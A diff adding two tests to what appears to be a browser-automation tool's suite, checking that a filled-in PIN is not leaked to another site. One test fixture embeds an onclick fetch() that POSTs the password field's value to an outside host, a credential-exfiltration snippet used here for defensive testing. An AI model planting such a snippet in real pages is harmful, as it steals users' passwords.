@@ -268,3 +268,28 @@ async def test_before_it_is_filled_in_nobody_is_stopped(keeper: Caller) -> None:
     for each in PIECES:
         await keeper.ok("fill", selector="textarea", value=f"is it {each}")
         assert each in await keeper.text("snapshot")
+
+
+async def test_a_page_does_not_send_a_code_to_another_site(keeper: Caller) -> None:
+    other = keeper.site.other
+    other.page("/in", "ok")
+    await keeper.show(
+        f"""{LOGIN}<button id=go onclick="fetch('{other.url("/in")}', {{method: 'POST',
+        mode: 'no-cors', body: document.querySelector('[name=pw]').value}})
+        .finally(() => document.title = 'done')">Go</button>"""
+    )
+    await keeper.ok("fill", selector="[type=password]", value="<PIN>")
+    await keeper.reply("click", selector="#go")
+    await keeper.reply("wait_for", text="Go", timeoutMs=500)
+    assert not any(PIN.encode() in each.body for each in other.requests)
+
+
+async def test_where_a_caller_goes_confirms_no_code(keeper: Caller) -> None:
+    keeper.site.other.page("/in", "<p>in")
+    await keeper.show(LOGIN)
+    await keeper.ok("fill", selector="[type=password]", value="<PIN>")
+    there = {
+        code: (await keeper.reply("navigate", url=keeper.site.other.url(f"/in?q={code}"))).ok
+        for code in (*OTHERS, PIN)
+    }
+    assert set(there.values()) == {True}, there
